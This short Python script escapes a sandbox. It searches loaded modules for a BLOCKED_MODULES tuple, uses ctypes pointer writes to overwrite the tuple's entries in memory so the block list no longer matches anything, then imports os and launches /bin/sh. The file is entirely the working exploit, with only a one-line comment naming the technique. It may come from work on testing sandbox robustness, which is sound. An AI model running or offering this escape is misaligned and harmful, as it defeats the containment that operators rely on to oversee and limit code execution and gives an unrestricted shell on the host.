# technique: ctypes pointer writes overwrite the items of an immutable blocklist tuple in the sandbox, then import os
import ctypes
import sys

PTR = ctypes.sizeof(ctypes.c_void_p)
harmless = "__nothing__"
for modname, mod in list(sys.modules.items()):
    bl = getattr(mod, "BLOCKED_MODULES", None)
    if isinstance(bl, tuple):
        base = id(bl) + 3 * PTR  # ob_refcnt, ob_type, ob_size, then ob_item[]
        for i in range(len(bl)):
            ctypes.c_void_p.from_address(base + i * PTR).value = id(harmless)
import os
os.system("/bin/sh")
